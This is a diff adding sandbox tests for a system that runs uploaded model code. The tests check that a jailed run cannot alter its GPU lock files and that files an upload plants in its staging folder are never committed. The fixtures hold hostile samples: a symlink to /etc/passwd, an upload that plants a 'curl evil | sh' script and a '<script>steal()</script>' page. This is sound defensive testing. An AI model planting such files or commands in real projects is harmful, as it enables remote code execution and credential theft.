@@ -286,3 +286,129 @@ def test_the_parent_commits_no_staged_link_or_special_file(tmp_path, plant):
     (planted.unlink())
     planted.write_text("# a kernel")
     output.check_staged(stage)  # regular files only: fine
+
+
+LOCK_PROBE = r'''
+import errno, fcntl, json, os, sys
+from lego_core import gpu_lock
+
+lock = sys.argv[1]
+seen = {}
+for name, attempt in {
+    "remove": lambda: os.unlink(lock),
+    "replace": lambda: os.replace(lock + ".turnstile", lock),
+    "plant": lambda: os.symlink("/etc/passwd", lock + ".planted"),
+    "create": lambda: open(os.path.join(os.path.dirname(lock), "new.lock"), "w"),
+}.items():
+    try:
+        attempt()
+        seen[name] = "done"
+    except OSError as exc:
+        seen[name] = errno.errorcode.get(exc.errno, str(exc.errno))
+fd = gpu_lock._open(lock)  # read-only here: flock needs no write access
+try:
+    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+    seen["while_held_outside"] = "taken"
+except BlockingIOError:
+    seen["while_held_outside"] = "waits"
+print(json.dumps(seen), flush=True)
+sys.stdin.readline()  # the test releases its hold, then asks again
+with gpu_lock.exclusive(path=lock):
+    seen["after_release"] = "taken"
+print(json.dumps(seen), flush=True)
+'''
+
+
+def _gpu_machine(monkeypatch, tmp_path):
+    """for_run as on a machine with a GPU: a lock folder, and a probe that makes its lock files."""
+    from lego_core import gpu_lock, gpu_probe
+
+    locks = tmp_path / "gpu-locks"
+    monkeypatch.setenv(gpu_lock.LOCK_DIR_ENV, str(locks))
+    made = []
+
+    def fake_probe():
+        for name in ("GPU-test.lock", "GPU-test.lock.turnstile"):
+            gpu_lock.create_lock_file(str(locks / name))
+            made.append(str(locks / name))
+        return {"name": "Test GPU", "locks": made}
+
+    monkeypatch.setattr(gpu_probe, "probe", fake_probe)
+    model, stage, scratch = tmp_path / "model.py", tmp_path / "stage", tmp_path / "scratch"
+    model.write_text("")
+    stage.mkdir()
+    scratch.mkdir()
+    with monkeypatch.context() as m:
+        m.setattr(jail, "_gpu_devices", lambda: ["/dev/nvidia0"])
+        run_jail = jail.for_run(str(model), str(stage), str(scratch), None, None)
+    return run_jail, locks
+
+
+def test_the_gpu_lock_folder_is_read_only_in_the_jail_with_its_files_made_by_the_parent(tmp_path, monkeypatch):
+    run_jail, locks = _gpu_machine(monkeypatch, tmp_path)
+    assert str(locks.resolve()) in run_jail.read_only
+    assert str(locks.resolve()) not in run_jail.writable
+    assert sorted(p.name for p in locks.iterdir()) == ["GPU-test.lock", "GPU-test.lock.turnstile"]
+    assert all(p.stat().st_mode & 0o666 == 0o666 for p in locks.iterdir())  # other users' runs share the card
+
+
+def test_a_jailed_run_takes_the_gpu_lock_but_cannot_touch_its_files(tmp_path, monkeypatch):
+    """flock(2) works on a file opened read-only, so the jail needs no write
+    access to the lock folder: the lock still keeps a jailed run and one
+    outside apart, and the jailed run cannot remove, replace or plant files."""
+    import fcntl
+    import os
+    import subprocess
+    import sys
+
+    _need_jail()
+    run_jail, locks = _gpu_machine(monkeypatch, tmp_path)
+    lock = str(locks / "GPU-test.lock")
+    outside = os.open(lock, os.O_RDWR)
+    fcntl.flock(outside, fcntl.LOCK_EX)
+    child = subprocess.Popen(run_jail.command([sys.executable, "-c", LOCK_PROBE, lock]), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        first = json.loads(child.stdout.readline())
+        fcntl.flock(outside, fcntl.LOCK_UN)
+        child.stdin.write("go\n")
+        child.stdin.flush()
+        second = json.loads(child.stdout.readline())
+    finally:
+        os.close(outside)
+        child.kill()
+        child.wait()
+    assert {first[k] for k in ("remove", "replace", "plant", "create")} == {"EROFS"}, first
+    assert first["while_held_outside"] == "waits"
+    assert second["after_release"] == "taken"
+    assert sorted(p.name for p in locks.iterdir()) == ["GPU-test.lock", "GPU-test.lock.turnstile"]
+
+
+@pytest.mark.slow
+def test_a_run_whose_upload_plants_a_file_in_its_staging_folder_commits_nothing(tmp_path, monkeypatch):
+    """The upload finds its staging folder (a writable mount of the jail) and
+    plants a script and a report.html there at import; the run otherwise
+    passes.  The parent commits only the names LEGO writes: the run fails
+    naming the planted file, and the output folder is never made."""
+    _need_jail()
+    monkeypatch.delenv("LEGO_SANDBOX", raising=False)
+    model = tmp_path / "planter.py"
+    model.write_text(
+        "import os\nimport torch\nimport torch.nn as nn\n\n"
+        "MARK = os.path.expanduser('~/planted')  # once: later imports (the end-to-end check's) write nothing\n"
+        "for line in [] if os.path.exists(MARK) else open('/proc/self/mountinfo'):\n"
+        "    point = line.split()[4]\n"
+        "    if '.lego-' in point:\n"
+        "        open(MARK, 'w').close()\n"
+        "        open(point + '/run.sh', 'w').write('curl evil | sh\\n')\n"
+        "        open(point + '/report.html', 'w').write('<script>steal()</script>')\n\n"
+        "class Model(nn.Module):\n"
+        "    def forward(self, x):\n"
+        "        return torch.relu(x) + 1.0\n\n"
+        "def get_inputs():\n    return [torch.randn(4, 32)]\n\n"
+        "def get_init_inputs():\n    return []\n"
+    )
+    config = OptimizeConfig(cache=False, verify_seeds=(1, 2, 3), e2e_seed=4)
+    with pytest.raises(ProblemError, match="(run.sh|report.html)(, report.html)?, which LEGO never writes"):
+        optimize(ProblemSpec(str(model), {}), tmp_path / "out", config)
+    assert not (tmp_path / "out").exists()
+    assert not list(tmp_path.glob(".out.lego-*")), "a staging folder was left behind"
